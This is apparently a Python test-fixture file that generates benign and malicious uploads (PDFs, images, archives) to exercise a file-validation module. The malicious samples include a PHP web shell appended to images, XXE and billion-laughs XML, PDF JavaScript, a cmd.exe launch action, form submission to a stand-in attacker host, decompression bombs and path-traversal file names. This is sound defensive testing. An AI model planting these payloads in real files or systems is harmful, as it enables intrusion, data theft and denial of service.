"""What people and others may hand in: 30 files to keep, and 80 to refuse with a reason.

`GOOD` and `BAD` are by name: a function that makes the file's name and its content,
and for the bad ones the reason of `council/file_check.py`, `None` where the name alone
or the size decides.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache, partial

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from council import file_check as why
from council.uploads import LARGEST
from tests.scans import a_pdf, a_picture, saved

GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00;"
SVG = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>&a;</svg>'
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
)
HTML = b"<!DOCTYPE html><script>alert(1)</script>"
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) run\n%%EOF"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00 This program cannot be run in DOS mode"
PHP = b"<?php system($_GET['c']); ?>"
HUGE = 300 * 1024 * 1024


# PDFs


def a_page():
    """Return a PDF of one blank page, to be made worse."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    return pdf


def script():
    """Return an action that is a script."""
    return Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def of_catalog(**keys):
    """Return a PDF whose catalog has these keys."""
    pdf = a_page()
    for key, value in keys.items():
        pdf.Root[f"/{key}"] = value
    return saved(pdf)


def of_page(**keys):
    """Return a PDF whose page has these keys."""
    pdf = a_page()
    for key, value in keys.items():
        pdf.pages[0][f"/{key}"] = value
    return saved(pdf)


def with_note(**keys):
    """Return a PDF with an annotation on its page."""
    pdf = a_page()
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **keys)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
    return saved(pdf)


def acting(kind, **keys):
    """Return a PDF with a link that does such an action."""
    return with_note(Subtype=Name.Link, A=Dictionary(S=Name(f"/{kind}"), **keys))


def with_attachment(content=b"MZ"):
    """Return a PDF that carries another file."""
    pdf = a_page()
    pdf.attachments["list.exe"] = content
    return saved(pdf)


def hidden(**options):
    """Return a PDF with a script that no page and no catalog refers to."""
    pdf = a_page()
    pdf.pages[0]["/Rest"] = pdf.make_indirect(Array([Dictionary(X=script())]))
    return saved(pdf, **options)


def locked(**passwords):
    """Return a PDF under a password."""
    lock = pikepdf.Encryption(R=6, **passwords)
    return saved(a_page(), encryption=lock, deterministic_id=False)


def raw(*objects, trailer=b"/Root 1 0 R", tail=b"%%EOF\n", head=b"%PDF-1.7\n"):
    """Return a PDF written by hand; the first object is the catalog."""
    made, places = bytearray(head), []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    made += b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n" % (size, trailer, start)
    return bytes(made) + tail


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
LEAVES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
LEAF = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"


def stream(content, keys):
    """Return a stream object as written by hand."""
    size = len(content)
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (size, keys, content)


@cache
def zeros(size=HUGE):
    """Return nothing, packed a thousand times over."""
    packer = zlib.compressobj(9)
    part = bytes(1024 * 1024)
    packed = b"".join(packer.compress(part) for _each in range(size // len(part)))
    return packed + packer.flush()


def unpacking(content, keys=b"/Filter /FlateDecode"):
    """Return a PDF with such a stream."""
    return raw(CATALOG, LEAVES, LEAF, stream(content, keys))


def object_stream_bomb():
    """Return a PDF whose objects themselves unpack into too much."""
    packed = zeros()
    return raw(
        CATALOG,
        LEAVES,
        LEAF,
        stream(packed, b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"),
        b"<< /Length 4 0 R >>",
    )


def an_archive(comment=b"", name="word/document.xml"):
    """Return a ZIP as DOCX is one."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr(name, LAUGHS)
        archive.comment = comment
    return made.getvalue()


def updated_later():
    """Return a PDF with a second end, as a program writes that only adds."""
    first = raw(CATALOG, LEAVES, LEAF)
    start = int(first.split(b"startxref\n")[1].split()[0])
    place = len(first)
    body = b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 8 8] >>\nendobj\n"
    table = b"xref\n3 1\n%010d 00000 n \n" % place
    trailer = b"trailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\n" % start
    end = b"startxref\n%d\n%%%%EOF\n" % (place + len(body))
    return first + body + table + trailer + end


@cache
def drawn_pdf(pages=1):
    """Return a scan as Pillow saves it as PDF."""
    sheets = [Image.new("L", (620, 877), 250 - page) for page in range(pages)]
    made = io.BytesIO()
    sheets[0].save(made, "PDF", save_all=True, append_images=sheets[1:], resolution=75)
    return made.getvalue()


@cache
def printed_pdf():
    """Return a paper as the project itself prints it: PDF/A-2a, tagged."""
    from council.pdf import render_pdf  # noqa: PLC0415

    html = (
        '<html lang="kk"><title>Қағаз</title>'
        '<h1>Хаттама</h1><p>Қаралды. <a href="https://example.kz/">Дерек</a></p>'
    )
    return render_pdf(html, css="h1 { font-size: 14pt }")


def with_pages(count):
    """Return a PDF of so many blank pages."""
    pdf = pikepdf.new()
    for _page in range(count):
        pdf.add_blank_page()
    return saved(pdf)


# Pictures


def with_place():
    """Return a photograph that knows where, and which way up, it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SecretPhone"
    exif.get_ifd(0x8825).update({1: "N", 2: (43.0, 15.0, 0.0)})
    return a_picture(exif=exif.tobytes())


@cache
def two_in_one():
    """Return a photograph with its smaller twin, as phones write it."""
    sheets = [Image.new("RGB", (60, 80), colour) for colour in ("white", "gray")]
    made = io.BytesIO()
    sheets[0].save(made, "MPO", save_all=True, append_images=sheets[1:])
    return made.getvalue()


def chunk(name, content):
    """Return a part of a PNG."""
    check = zlib.crc32(name + content)
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)


def a_png(width, height, packed, *more, depth=8, colour=0):
    """Return a PNG written by hand; its size is what it says."""
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    parts = [chunk(b"IHDR", head), *more, chunk(b"IDAT", packed), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(parts)


def enormous_jpeg():
    """Return a JPEG that says it has 65,500 points each way."""
    content = a_picture()
    place = content.index(b"\xff\xc0")
    return (
        content[: place + 5] + struct.pack(">HH", 65500, 65500) + content[place + 9 :]
    )


@cache
def moving():
    """Return a PNG of several pictures."""
    sheets = [Image.new("RGB", (9, 9), colour) for colour in ("white", "black")]
    made = io.BytesIO()
    sheets[0].save(made, "PNG", save_all=True, append_images=sheets[1:])
    return made.getvalue()


def cut(content, share=0.5):
    """Return the beginning of a file."""
    return content[: int(len(content) * share)]


def broken(content):
    """Return a file in whose middle some bytes are others."""
    middle = len(content) // 2
    return content[:middle] + b"\x00\xff\x00\xff" * 4 + content[middle + 16 :]


def noise(size):
    """Return bytes that are nothing."""
    return random.Random(size).randbytes(size)


GOOD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "blank": ("scan.pdf", a_pdf),
    "in capitals": ("SCAN.PDF", a_pdf),
    "pillow": ("scan.pdf", drawn_pdf),
    "thirty pages": ("scan.pdf", partial(drawn_pdf, 30)),
    "pdf/a": ("paper.pdf", printed_pdf),
    "object streams": (
        "scan.pdf",
        lambda: saved(a_page(), object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "linearised": (
        "scan.pdf",
        lambda: saved(a_page(), linearize=True, deterministic_id=False),
    ),
    "by hand": ("scan.pdf", partial(raw, CATALOG, LEAVES, LEAF)),
    "updated later": ("scan.pdf", updated_later),
    "padded": ("scan.pdf", lambda: a_pdf() + b"\r\n" + bytes(500)),
    "opens at a page": (
        "scan.pdf",
        lambda: of_catalog(OpenAction=Array([0, Name.Fit])),
    ),
    "link": ("scan.pdf", partial(acting, "URI", URI="https://example.kz/")),
    "500 pages": ("scan.pdf", partial(with_pages, 500)),
    "jpeg": ("scan.jpg", a_picture),
    "jpeg, long ending": ("scan.JPEG", a_picture),
    "progressive": ("scan.jpg", partial(a_picture, progressive=True)),
    "grey": ("scan.jpg", partial(a_picture, mode="L")),
    "four inks": ("scan.jpg", partial(a_picture, mode="CMYK")),
    "a place": ("photo.jpg", with_place),
    "two in one": ("photo.jpg", two_in_one),
    "maker's trailer": ("photo.jpg", lambda: a_picture() + b"\x00\x00 SEFHxxSEFT"),
    "A4": ("scan.jpg", partial(a_picture, size=(2480, 3508), dpi=(300, 300))),
    "png": ("scan.png", partial(a_picture, "PNG")),
    "see-through": ("scan.png", partial(a_picture, "PNG", mode="RGBA")),
    "palette": ("scan.png", partial(a_picture, "PNG", mode="P", transparency=0)),
    "black and white": ("scan.png", partial(a_picture, "PNG", mode="1")),
    "16 bits": ("scan.png", partial(a_picture, "PNG", mode="I;16")),
    # names
    "turned name": ("құжат\u202efdp.pdf", a_pdf),
    "way up": ("../../..%2f..%2fetc%2fpasswd.pdf", a_pdf),
    "nul": ("a\x00b.pdf", a_pdf),
    "markup": ("<img src=x onerror=alert(1)>.pdf", a_pdf),
    "two endings": ("scan.exe.pdf", a_pdf),
    "long": (f"{'қ' * 300}.png", partial(a_picture, "PNG")),
}

BAD: dict[str, tuple[str | None, str, Callable[[], bytes]]] = {
    # what acts
    "script at opening": (why.ACTIVE, "a.pdf", lambda: of_catalog(OpenAction=script())),
    "address at opening": (
        why.ACTIVE,
        "a.pdf",
        lambda: of_catalog(
            OpenAction=Dictionary(S=Name.URI, URI="https://example.kz/")
        ),
    ),
    "script among names": (
        why.ACTIVE,
        "a.pdf",
        lambda: of_catalog(
            Names=Dictionary(JavaScript=Dictionary(Names=Array(["x", script()])))
        ),
    ),
    "script nobody calls": (why.ACTIVE, "a.pdf", hidden),
    "script in an object stream": (
        why.ACTIVE,
        "a.pdf",
        lambda: hidden(object_stream_mode=pikepdf.ObjectStreamMode.generate),
    ),
    "script under another spelling": (
        why.ACTIVE,
        "a.pdf",
        lambda: raw(
            CATALOG,
            LEAVES,
            LEAF.replace(b">>", b"/A << /S /J#61vaScript /J#53 (x) >> >>"),
        ),
    ),
    "script in a stream of its own": (
        why.ACTIVE,
        "a.pdf",
        lambda: raw(
            CATALOG,
            LEAVES,
            LEAF.replace(b">>", b"/A << /S /JavaScript /JS 4 0 R >> >>"),
            stream(b"app.alert(1)", b""),
        ),
    ),
    "program": (why.ACTIVE, "a.pdf", partial(acting, "Launch", F="cmd.exe")),
    "program afterwards": (
        why.ACTIVE,
        "a.pdf",
        lambda: acting(
            "URI",
            URI="https://example.kz/",
            Next=Array([Dictionary(S=Name.Launch, F="cmd.exe")]),
        ),
    ),
    "script's address": (
        why.ACTIVE,
        "a.pdf",
        partial(acting, "URI", URI="javascript:alert(1)"),
    ),
    "file's address": (
        why.ACTIVE,
        "a.pdf",
        partial(acting, "URI", URI="file:///etc/passwd"),
    ),
    "another document": (why.ACTIVE, "a.pdf", partial(acting, "GoToR", F="b.pdf")),
    "form sent": (
        why.ACTIVE,
        "a.pdf",
        partial(acting, "SubmitForm", F="https://evil.example/"),
    ),
    "data taken in": (why.ACTIVE, "a.pdf", partial(acting, "ImportData", F="x.fdf")),
    "page that acts": (why.ACTIVE, "a.pdf", lambda: of_page(AA=Dictionary(O=script()))),
    "catalog that acts": (
        why.ACTIVE,
        "a.pdf",
        lambda: of_catalog(AA=Dictionary(WC=script())),
    ),
    "form of its own": (
        why.ACTIVE,
        "a.pdf",
        lambda: of_catalog(AcroForm=Dictionary(Fields=Array(), XFA="<xdp/>")),
    ),
    "rich media": (why.ACTIVE, "a.pdf", partial(with_note, Subtype=Name.RichMedia)),
    "film": (why.ACTIVE, "a.pdf", partial(with_note, Subtype=Name.Movie)),
    "screen": (why.ACTIVE, "a.pdf", partial(with_note, Subtype=Name.Screen)),
    "model": (why.ACTIVE, "a.pdf", partial(with_note, Subtype=Name("/3D"))),
    # what is carried along
    "attachment": (why.EMBEDDED, "a.pdf", with_attachment),
    "paper in a paper": (why.EMBEDDED, "a.pdf", lambda: with_attachment(a_pdf())),
    "attachment on a page": (
        why.EMBEDDED,
        "a.pdf",
        partial(with_note, Subtype=Name.FileAttachment),
    ),
    "embedded, nobody calls": (
        why.EMBEDDED,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF, stream(PROGRAM, b"/Type /EmbeddedFile")),
    ),
    "content elsewhere": (
        why.EMBEDDED,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF, stream(b"", b"/F (/etc/passwd)")),
    ),
    # passwords
    "password": (why.LOCKED, "a.pdf", partial(locked, user="a", owner="b")),
    "owner's password": (why.LOCKED, "a.pdf", partial(locked, user="", owner="b")),
    # several things in one
    "pdf and zip": (why.JOINED, "a.pdf", lambda: a_pdf() + an_archive()),
    "pdf and zip, ended": (
        why.JOINED,
        "a.pdf",
        lambda: a_pdf() + an_archive(comment=b"\n%%EOF\n"),
    ),
    "zip in a stream": (
        why.JOINED,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF, stream(an_archive(), b"")),
    ),
    "pdf and html": (why.JOINED, "a.pdf", lambda: a_pdf() + HTML),
    "pdf and program": (why.JOINED, "a.pdf", lambda: a_pdf() + PROGRAM),
    "html before": (why.OTHER, "a.pdf", lambda: HTML + a_pdf()),
    "mail before": (why.OTHER, "a.pdf", lambda: b"\r\n" + a_pdf()),
    "picture and php": (why.JOINED, "a.jpg", lambda: a_picture() + PHP),
    "picture and zip": (why.JOINED, "a.jpg", lambda: a_picture() + an_archive()),
    "png and zip": (why.JOINED, "a.png", lambda: a_picture("PNG") + an_archive()),
    "png and php": (why.JOINED, "a.png", lambda: a_picture("PNG") + PHP),
    "moving": (why.MOVING, "a.png", moving),
    # bombs
    "content": (why.BOMB, "a.pdf", lambda: unpacking(zeros())),
    "content, packed twice": (
        why.BOMB,
        "a.pdf",
        lambda: unpacking(
            zlib.compress(zeros()), b"/Filter [/FlateDecode /FlateDecode]"
        ),
    ),
    "many of a hundred": (
        why.BOMB,
        "a.pdf",
        lambda: raw(
            *(CATALOG, LEAVES, LEAF),
            *[stream(zeros(HUGE // 3), b"/Filter /FlateDecode")] * 3,
        ),
    ),
    "run lengths": (
        why.BOMB,
        "a.pdf",
        lambda: unpacking(b"\x81\x00" * (HUGE // 128), b"/Filter /RunLengthDecode"),
    ),
    "objects packed": (why.BOMB, "a.pdf", object_stream_bomb),
    "too many objects": (
        why.BOMB,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF, *[b"[]"] * 100_001),
    ),
    "too many in one": (
        why.BOMB,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF, b"[%s]" % (b"[]" * 100_001)),
    ),
    "picture in a paper": (
        why.PIXELS,
        "a.pdf",
        lambda: unpacking(
            zlib.compress(b"0"),
            b"/Subtype /Image /Width 99999 /Height 99999 /Filter /FlateDecode",
        ),
    ),
    "501 pages": (why.PAGES, "a.pdf", partial(with_pages, 501)),
    "50,000 points": (
        why.PIXELS,
        "a.png",
        lambda: a_png(50_000, 50_000, zeros(HUGE // 3)),
    ),
    "51 million points": (
        why.PIXELS,
        "a.png",
        lambda: a_png(10_200, 5_000, zlib.compress(b"0")),
    ),
    "65,500 points": (why.PIXELS, "a.jpg", enormous_jpeg),
    "words in a picture": (
        why.DAMAGED,
        "a.png",
        lambda: a_png(
            *(9, 9, zlib.compress(bytes(90))),
            *[chunk(b"zTXt", b"k\0\0" + zeros(HUGE // 3))] * 3,
        ),
    ),
    "nested": (
        why.DAMAGED,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF, b"[" * 100_000 + b"]" * 100_000),
    ),
    # broken off
    "half": (why.DAMAGED, "a.pdf", lambda: cut(drawn_pdf())),
    "end": (why.DAMAGED, "a.pdf", lambda: drawn_pdf()[:-60]),
    "middle": (
        why.DAMAGED,
        "a.pdf",
        lambda: drawn_pdf()[:300] + drawn_pdf()[-300:],
    ),
    "no table": (
        why.DAMAGED,
        "a.pdf",
        lambda: raw(CATALOG, LEAVES, LEAF).replace(b"xref\n0", b"xxxx\n0"),
    ),
    "no pages": (why.DAMAGED, "a.pdf", lambda: raw(b"<< /Type /Catalog >>")),
    "only a head": (why.DAMAGED, "a.pdf", lambda: b"%PDF-1.7\n"),
    "head and end": (why.DAMAGED, "a.pdf", lambda: b"%PDF-1.7\n%%EOF"),
    "html with a head": (why.DAMAGED, "a.pdf", lambda: b"%PDF-1.4\n" + HTML),
    "noise with a head": (why.DAMAGED, "a.pdf", lambda: b"%PDF-1.4\n" + noise(5000)),
    "half a jpeg": (why.DAMAGED, "a.jpg", lambda: cut(a_picture(size=(600, 800)))),
    "jpeg's head": (why.DAMAGED, "a.jpg", lambda: b"\xff\xd8\xff" + noise(500)),
    "half a png": (
        why.DAMAGED,
        "a.png",
        lambda: cut(a_picture("PNG", size=(600, 800))),
    ),
    "broken png": (
        why.DAMAGED,
        "a.png",
        lambda: broken(a_picture("PNG", size=(600, 800))),
    ),
    # something else under such a name
    "eps": (why.OTHER, "a.pdf", lambda: EPS),
    "svg": (why.OTHER, "a.png", lambda: SVG),
    "html": (why.OTHER, "a.pdf", lambda: HTML),
    "entities": (why.OTHER, "a.pdf", lambda: LAUGHS),
    "zip": (why.OTHER, "a.pdf", an_archive),
    "docx": (why.OTHER, "a.pdf", partial(an_archive, name="../../word/vbaProject.bin")),
    "windows program": (why.OTHER, "a.pdf", lambda: PROGRAM),
    "gif": (why.OTHER, "a.png", lambda: GIF),
    "gif as jpeg": (why.OTHER, "a.jpg", lambda: GIF),
    "jpeg as png": (why.OTHER, "a.png", a_picture),
    "png as jpeg": (why.OTHER, "a.jpg", partial(a_picture, "PNG")),
    "pdf as jpeg": (why.OTHER, "a.jpg", a_pdf),
    "jpeg as pdf": (why.OTHER, "a.pdf", a_picture),
    "noise": (why.OTHER, "a.pdf", partial(noise, 5000)),
    # names, and sizes
    "named svg": (None, "a.svg", lambda: SVG),
    "named html": (None, "a.pdf.html", a_pdf),
    "named program": (None, "a.pdf.exe", a_pdf),
    "named backwards": (None, "a\u202efdp.exe", a_pdf),
    "not named": (None, "scan", a_pdf),
    "named pdf, almost": (None, "scan.pdf ", a_pdf),
    "empty": (None, "a.pdf", lambda: b""),
    "10 MB and a byte": (None, "a.pdf", lambda: a_pdf().ljust(LARGEST + 1, b"\0")),
}
